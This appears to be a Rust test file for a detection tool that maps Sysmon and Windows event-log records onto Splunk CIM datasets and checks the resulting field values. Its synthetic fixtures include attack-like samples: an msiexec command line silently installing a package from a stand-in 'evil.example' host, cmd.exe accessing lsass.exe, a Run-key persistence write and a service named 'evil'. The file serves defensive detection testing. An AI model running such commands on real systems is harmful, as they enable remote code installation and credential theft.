//! The CIM datasets besides the §6 vectors (ADDON_FIELDS.md §2.1–2.4, SPLUNK_SEMANTICS.md
//! revision 2026-12-01): which events each dataset receives, and the fields of the rows of
//! Services, Ports, Registry (Security 4657), Filesystem and Processes.

mod support;

use cimhunt_model::Meta;
use support::*;

fn get<'f>(f: &'f Fields, name: &str) -> Vec<&'f str> {
    f.get(name)
        .map(|v| v.iter().map(String::as_str).collect())
        .unwrap_or_default()
}

fn one<'f>(f: &'f Fields, name: &str) -> &'f str {
    match get(f, name).as_slice() {
        [v] => v,
        other => panic!("{name}: expected one value, found {other:?} in {f:?}"),
    }
}

fn example(file: &str) -> (String, Meta) {
    let ds = data_source(file);
    (
        ds.example_log.expect("an example").trim().to_owned(),
        meta(&ds.source, &ds.sourcetype),
    )
}

fn security(id: &str, data: &[(&str, &str)]) -> String {
    xml_event("Microsoft-Windows-Security-Auditing", "Security", id, data)
        .replace("0x8000000000000000", "0x8020000000000000")
}

fn security_meta() -> Meta {
    meta("XmlWinEventLog:Security", "xmlwineventlog")
}

const DATASETS: &[&str] = &[
    "Endpoint.Processes",
    "Endpoint.Registry",
    "Endpoint.Filesystem",
    "Endpoint.Services",
    "Endpoint.Ports",
    "Network_Traffic.All_Traffic",
    "Network_Resolution.DNS",
];

/// The datasets of the list an event belongs to.
fn datasets_of(xml: &str, meta: &Meta) -> Vec<&'static str> {
    DATASETS
        .iter()
        .copied()
        .filter(|ds| view_fields(escu(), xml, meta, ds).is_some())
        .collect()
}

#[test]
fn s2_2_sysmon_event_codes_feed_these_datasets() {
    let expect: &[(&str, &[&str])] = &[
        ("1", &["Endpoint.Processes"]),
        ("2", &["Endpoint.Filesystem"]),
        ("3", &["Network_Traffic.All_Traffic"]),
        ("4", &["Endpoint.Services"]),
        ("5", &["Endpoint.Processes"]),
        ("6", &["Endpoint.Processes"]),
        ("7", &["Endpoint.Processes"]),
        ("8", &["Endpoint.Processes"]),
        ("9", &["Endpoint.Processes"]),
        ("10", &["Endpoint.Processes"]),
        ("11", &["Endpoint.Filesystem"]),
        ("12", &["Endpoint.Registry"]),
        ("13", &["Endpoint.Registry"]),
        ("14", &["Endpoint.Registry"]),
        ("15", &["Endpoint.Processes"]),
        ("16", &["Endpoint.Services"]),
        ("17", &["Endpoint.Processes"]),
        ("18", &["Endpoint.Processes"]),
        ("19", &[]),
        ("20", &[]),
        ("21", &[]),
        ("22", &["Network_Resolution.DNS"]),
        ("23", &["Endpoint.Filesystem"]),
        ("24", &["Endpoint.Processes"]),
        ("25", &["Endpoint.Processes"]),
        ("26", &["Endpoint.Filesystem"]),
        ("27", &["Endpoint.Filesystem"]),
        ("28", &["Endpoint.Filesystem"]),
        ("29", &["Endpoint.Filesystem"]),
        ("255", &["Endpoint.Services"]),
    ];
    for (code, datasets) in expect {
        let xml = sysmon(code, &[("Image", r"C:\x\a.exe")]);
        assert_eq!(
            datasets_of(&xml, &sysmon_meta()),
            *datasets,
            "Sysmon {code}"
        );
    }
}

#[test]
fn s2_2_windows_event_codes_feed_these_datasets() {
    let system = |id: &str| {
        (
            xml_event("Service Control Manager", "System", id, &[("param1", "x")]),
            meta("XmlWinEventLog:System", "xmlwineventlog"),
        )
    };
    let sec = |id: &str| (security(id, &[("SubjectUserName", "bob")]), security_meta());
    let cases: Vec<((String, Meta), &[&str])> = vec![
        (sec("4688"), &["Endpoint.Processes"]),
        (sec("4657"), &["Endpoint.Registry"]),
        (sec("4663"), &[]),
        (sec("5156"), &[]),
        (sec("5158"), &["Endpoint.Ports"]),
        // ADDON_FIELDS.md 0.3 and 2.2: Ports gets Security 5158 only.
        (sec("4957"), &[]),
        (sec("4697"), &["Endpoint.Services"]),
        (sec("1100"), &["Endpoint.Services"]),
        (sec("5024"), &["Endpoint.Services"]),
        (system("7036"), &["Endpoint.Services"]),
        (system("7040"), &["Endpoint.Services"]),
        (system("7045"), &["Endpoint.Services"]),
        (system("104"), &[]),
    ];
    for ((xml, meta), datasets) in cases {
        assert_eq!(datasets_of(&xml, &meta), datasets, "{xml}");
    }
    // 4670 is in Registry only for registry objects.
    let perm = security("4670", &[("ObjectType", "Key")]);
    assert!(datasets_of(&perm, &security_meta()).is_empty());
    let perm = security("4670", &[("ObjectType", "Registry")]);
    assert_eq!(datasets_of(&perm, &security_meta()), ["Endpoint.Registry"]);
}

#[test]
fn s2_4_5_system_7036_and_7040_services_rows() {
    let (xml, meta) = example("windows_event_log_system_7036");
    let s = view_fields(escu(), &xml, &meta, "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "service"), "sppsvc");
    assert_eq!(one(&s, "service_name"), "sppsvc");
    assert_eq!(one(&s, "status"), "stopped");
    assert_eq!(one(&s, "start_mode"), "unknown");
    assert_eq!(one(&s, "user"), "unknown");
    assert_eq!(one(&s, "dest"), "ar-win-dc.attackrange.local");
    let (xml, meta) = example("windows_event_log_system_7040");
    let s = view_fields(escu(), &xml, &meta, "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "service_name"), "Print Spooler");
    assert_eq!(one(&s, "start_mode"), "disabled");
    assert_eq!(one(&s, "status"), "unknown");
}

#[test]
fn s2_4_5_security_1100_and_4697_services_rows() {
    let (xml, meta) = example("windows_event_log_security_1100");
    let s = view_fields(escu(), &xml, &meta, "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "service"), "Event Logging Service");
    assert_eq!(one(&s, "service_name"), "Event Logging Service");
    assert_eq!(one(&s, "status"), "stopped");
    let xml = security(
        "4697",
        &[
            ("SubjectUserName", "admin"),
            ("ServiceName", "evil"),
            ("ServiceFileName", r"C:\e.exe"),
            ("ServiceStartType", "3"),
            ("ServiceAccount", "LocalSystem"),
        ],
    );
    let s = view_fields(escu(), &xml, &security_meta(), "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "service"), "evil");
    assert_eq!(one(&s, "service_name"), "evil");
    assert_eq!(one(&s, "start_mode"), "manual");
    assert_eq!(one(&s, "user"), "admin");
    // [U] lookup order: the ASCII order of the LOOKUP- classes puts
    // action_for_windows00_security (status=started) first.
    assert_eq!(one(&s, "status"), "started");
}

#[test]
fn s2_4_5_sysmon_4_and_16_services_rows() {
    let xml = sysmon(
        "4",
        &[("UtcTime", "2024-01-01 00:00:00.000"), ("State", "Stopped")],
    );
    let s = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "service"), "Sysmon");
    assert_eq!(one(&s, "status"), "stopped");
    assert_eq!(one(&s, "description"), "Sysmon state changed");
    assert_eq!(one(&s, "start_mode"), "unknown");
    let xml = sysmon("16", &[("Configuration", r"C:\c.xml")]);
    let s = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Services").unwrap();
    assert_eq!(one(&s, "status"), "started");
    assert_eq!(one(&s, "description"), "Sysmon configuration changed");
}

#[test]
fn s2_4_6_security_5158_ports_row_with_its_base_search() {
    let xml = security(
        "5158",
        &[
            ("ProcessId", "1234"),
            ("Application", r"\device\harddiskvolume2\x.exe"),
            ("SourceAddress", "0.0.0.0"),
            ("SourcePort", "445"),
            ("Protocol", "6"),
        ],
    );
    let p = view_fields(escu(), &xml, &security_meta(), "Endpoint.Ports").unwrap();
    assert_eq!(one(&p, "transport"), "TCP", "not lower-cased by Ports");
    assert_eq!(one(&p, "dest_port"), "0", "5158 has no DestPort");
    assert_eq!(one(&p, "transport_dest_port"), "TCP/0");
    assert_eq!(one(&p, "src_port"), "445");
    assert_eq!(one(&p, "dest"), "win-host.example.local");
    assert_eq!(one(&p, "user"), "unknown");
    assert_eq!(one(&p, "src"), "unknown");
}

#[test]
fn s2_4_1_security_4657_registry_row() {
    let xml = security(
        "4657",
        &[
            ("SubjectUserName", "bob"),
            ("ObjectName", r"\REGISTRY\MACHINE\SOFTWARE\x"),
            ("ObjectValueName", "Run"),
            ("OldValueType", "%%1873"),
            ("NewValueType", "%%1873"),
            ("NewValue", r"C:\e.exe"),
            ("ProcessId", "0x1f4"),
            ("ProcessName", r"C:\Windows\regedit.exe"),
        ],
    );
    let r = view_fields(escu(), &xml, &security_meta(), "Endpoint.Registry").unwrap();
    assert_eq!(one(&r, "registry_path"), r"\REGISTRY\MACHINE\SOFTWARE\x");
    assert_eq!(one(&r, "registry_value_name"), "Run");
    assert_eq!(one(&r, "registry_value_type"), "%%1873");
    assert_eq!(one(&r, "registry_value_data"), "unknown");
    assert_eq!(one(&r, "registry_key_name"), "unknown");
    assert_eq!(one(&r, "user"), "unknown");
    assert_eq!(one(&r, "process_id"), "0x1f4");
    assert_eq!(one(&r, "vendor_product"), "Microsoft Windows");
    assert_eq!(one(&r, "dest"), "win-host.example.local");
    // [U] lookup order: windows2 (Keywords 0x8020…) before xmlsecurity_input (unknown).
    assert_eq!(one(&r, "action"), "success");
    let raw = raw_fields(escu(), &xml, &security_meta());
    assert_eq!(
        raw["process_name"],
        [r"C:\Windows\regedit.exe"],
        "the full path"
    );
    assert_eq!(raw["src_user"], ["bob"]);
}

#[test]
fn s2_4_2_sysmon_filesystem_actions_and_times() {
    let time = "2024-01-02 03:04:05.678";
    let cases = [
        ("2", "modified", Some(time), Some(time), None),
        ("26", "deleted", Some(time), Some(time), Some("MD5=1")),
        ("27", "blocked", Some(time), Some(time), Some("MD5=1")),
        ("28", "blocked", Some(time), Some(time), Some("MD5=1")),
        ("29", "created", None, Some(time), Some("MD5=1")),
    ];
    for (code, action, modify, access, hash) in cases {
        let xml = sysmon(
            code,
            &[
                ("UtcTime", time),
                ("Image", r"C:\x\a.exe"),
                ("TargetFilename", r"C:\t\f.txt"),
                ("Hashes", "MD5=1"),
                ("User", r"D\u"),
            ],
        );
        let f = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Filesystem").unwrap();
        assert_eq!(one(&f, "action"), action, "{code}");
        assert_eq!(
            get(&f, "file_modify_time"),
            modify.into_iter().collect::<Vec<_>>(),
            "{code}"
        );
        assert_eq!(
            get(&f, "file_access_time"),
            access.into_iter().collect::<Vec<_>>(),
            "{code}"
        );
        assert_eq!(one(&f, "file_hash"), hash.unwrap_or("unknown"), "{code}");
        assert_eq!(one(&f, "file_name"), "f.txt");
        assert_eq!(one(&f, "user"), "u");
    }
}

#[test]
fn traffic_children_follow_the_action() {
    let xml = sysmon(
        "3",
        &[
            ("Image", "a"),
            ("Protocol", "tcp"),
            ("DestinationIp", "1.2.3.4"),
        ],
    );
    for (ds, inside) in [
        ("Network_Traffic.All_Traffic.Traffic_By_Action", true),
        (
            "Network_Traffic.All_Traffic.Traffic_By_Action.Allowed_Traffic",
            true,
        ),
        (
            "Network_Traffic.All_Traffic.Traffic_By_Action.Blocked_Traffic",
            false,
        ),
    ] {
        assert_eq!(
            view_fields(escu(), &xml, &sysmon_meta(), ds).is_some(),
            inside,
            "{ds}"
        );
    }
}

#[test]
fn revision_4_sysmon_8_and_10_process_names_come_from_the_target() {
    for code in ["8", "10"] {
        let xml = sysmon(
            code,
            &[
                ("SourceImage", r"C:\Windows\System32\cmd.exe"),
                ("SourceProcessId", "1"),
                ("TargetImage", r"C:\Windows\System32\lsass.exe"),
                ("TargetProcessId", "2"),
            ],
        );
        let p = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Processes").unwrap();
        assert_eq!(one(&p, "process_name"), "lsass.exe", "{code}");
        assert_eq!(one(&p, "parent_process_name"), "cmd.exe", "{code}");
        assert_eq!(one(&p, "process_id"), "2", "{code}");
        assert_eq!(one(&p, "parent_process_id"), "1", "{code}");
        assert_eq!(
            one(&p, "process_path"),
            r"C:\Windows\System32\lsass.exe",
            "{code}"
        );
        assert_eq!(one(&p, "process"), "unknown", "{code}");
    }
    // A basename with no extension and a non-word character stays the whole path (§1.9).
    let xml = sysmon(
        "1",
        &[("Image", r"C:\Tools\evil-bin"), ("CommandLine", "evil-bin")],
    );
    let p = view_fields(escu(), &xml, &sysmon_meta(), "Endpoint.Processes").unwrap();
    assert_eq!(one(&p, "process_name"), r"C:\Tools\evil-bin");
}

/// SPLUNK_SEMANTICS.md 5.4 and its vectors CV-26, CV-27 and CV-28: the Security 4688 fields the
/// tables write from 5.4's words (the rebuilt command line, basenames, hex PIDs, user).
#[test]
fn semantics_5_4_security_4688_processes_row() {
    let row = |data: &[(&str, &str)]| {
        view_fields(
            escu(),
            &security("4688", data),
            &security_meta(),
            "Endpoint.Processes",
        )
        .unwrap()
    };
    let base: Vec<(&str, &str)> = vec![
        ("SubjectUserName", "Administrator"),
        ("NewProcessId", "0xf84"),
        ("NewProcessName", r"C:\Windows\System32\msiexec.exe"),
        ("ProcessId", "0xb2c"),
        (
            "CommandLine",
            r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
        ),
        ("TargetUserName", "-"),
        ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
    ];
    // CV-26.
    let p = row(&base);
    for (field, value) in [
        ("user", "Administrator"),
        ("process_name", "msiexec.exe"),
        ("process_path", r"C:\Windows\System32\msiexec.exe"),
        (
            "process",
            r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
        ),
        ("process_id", "0xf84"),
        ("parent_process_id", "0xb2c"),
        ("parent_process", r"C:\Windows\System32\cmd.exe"),
        ("parent_process_path", r"C:\Windows\System32\cmd.exe"),
        ("parent_process_name", "cmd.exe"),
        ("original_file_name", "unknown"),
        ("action", "allowed"),
        ("vendor_product", "Microsoft Windows"),
    ] {
        assert_eq!(one(&p, field), value, "{field}");
    }
    // CV-27: a command line whose first token has no backslash is rebuilt from NewProcessName,
    // quoted when it holds a blank; TargetUserName wins over SubjectUserName.
    let mut cv27 = base.clone();
    cv27[4].1 = "msiexec /i http://evil.example/a.msi";
    cv27[5].1 = "jdoe";
    let p = row(&cv27);
    assert_eq!(one(&p, "user"), "jdoe");
    assert_eq!(
        one(&p, "process"),
        r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi"
    );
    cv27[2].1 = r"C:\Program Files\Foo\msiexec.exe";
    let p = row(&cv27);
    assert_eq!(
        one(&p, "process"),
        r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#
    );
    assert_eq!(one(&p, "process_name"), "msiexec.exe");
    // CV-28: no command line, and a command line with no arguments, give NewProcessName.
    let mut cv28 = base.clone();
    cv28.remove(4);
    assert_eq!(
        one(&row(&cv28), "process"),
        r"C:\Windows\System32\msiexec.exe"
    );
    let mut bare = base.clone();
    bare[4].1 = "msiexec";
    assert_eq!(
        one(&row(&bare), "process"),
        r"C:\Windows\System32\msiexec.exe"
    );
}

#[test]
fn revision_2_cim_5_2_process_name_fallback_is_the_first_token() {
    // A Processes event with a command line and no process_name: CrowdStrike without an image.
    let json = r#"{"event_simpleName":"ProcessRollup2","timestamp":"1713805173418","aid":"a","CommandLine":"\"C:\\Windows\\System32\\msiexec.exe\" /i http://x.example/a.msi"}"#;
    let flat = cimhunt_decode::decode_json(json.as_bytes()).unwrap();
    let cimhunt_decode::Decoded::Flat(flat) = flat else {
        panic!("flat")
    };
    let name = |m: &cimhunt_model::Model| {
        let want = want_all();
        let meta = Meta::default();
        let ev = m.event(
            cimhunt_model::Decoded::Flat(&flat),
            &meta,
            &want,
            Some(json),
        );
        let ds = m.dataset("Endpoint.Processes").unwrap();
        let v = m.view(&ev, ds).unwrap();
        texts(&cimhunt_spl::Record::value(
            &v,
            cimhunt_spl::Sym::new("process_name"),
        ))
    };
    assert_eq!(name(escu()), [r#""C:\Windows\System32\msiexec.exe""#]);
    assert_eq!(
        name(&with_overlays(&["cim-6-process-name"])),
        ["msiexec.exe"]
    );
}

#[test]
fn revision_6_escapes_in_unquoted_terms_match_backslashes() {
    let xml = sysmon(
        "13",
        &[("TargetObject", r"HKLM\SAM\SAM\Domains"), ("Details", "x")],
    );
    let want = want_all();
    let win = cimhunt_decode::decode_xml(xml.as_bytes()).unwrap();
    let meta = sysmon_meta();
    let ev = escu().event(
        cimhunt_model::Decoded::Windows(&win),
        &meta,
        &want,
        Some(&xml),
    );
    let m = |s: &str| cimhunt_spl::search::parse_expr(s).unwrap().matches(&ev);
    assert!(m(r"TargetObject=*HKLM\\SAM*"));
    assert!(m(r#"TargetObject="*\\SAM\\*""#));
    assert!(!m(r"TargetObject=*HKLM\\\\SAM*"));
}

/// `Record::time` is a shortcut an aggregation takes for each event and detection: an event
/// and each of its dataset views must give the time their `_time` value reads as.
#[test]
fn an_event_and_its_views_give_the_time_their_time_field_reads_as() {
    use cimhunt_decode::decode_xml;
    use cimhunt_model::Decoded;
    use cimhunt_spl::Record;
    use cimhunt_spl::record::{read_time, time_sym};

    let model = escu();
    let want = want_all();
    let mut checked = 0;
    for (stem, ds) in windows_data_sources() {
        let xml = ds.example_log.as_deref().unwrap_or_default().trim();
        let Ok(win) = decode_xml(xml.as_bytes()) else {
            continue;
        };
        let m = meta(&ds.source, &ds.sourcetype);
        let ev = model.event(Decoded::Windows(&win), &m, &want, Some(xml));
        let expected = read_time(&ev.value(time_sym()));
        assert!(expected.is_some(), "{stem}: the example has a time");
        assert_eq!(ev.time(), expected, "{stem}");
        // Asked twice: the remembered time is the same.
        assert_eq!(ev.time(), expected, "{stem}");
        for name in DATASETS {
            let id = model.dataset(name).expect("dataset exists");
            if let Some(view) = model.view(&ev, id) {
                assert_eq!(
                    view.time(),
                    read_time(&view.value(time_sym())),
                    "{stem} {name}"
                );
                checked += usize::from(view.time().is_some());
            }
        }
    }
    assert!(checked >= 10, "only {checked} views with a time checked");
}
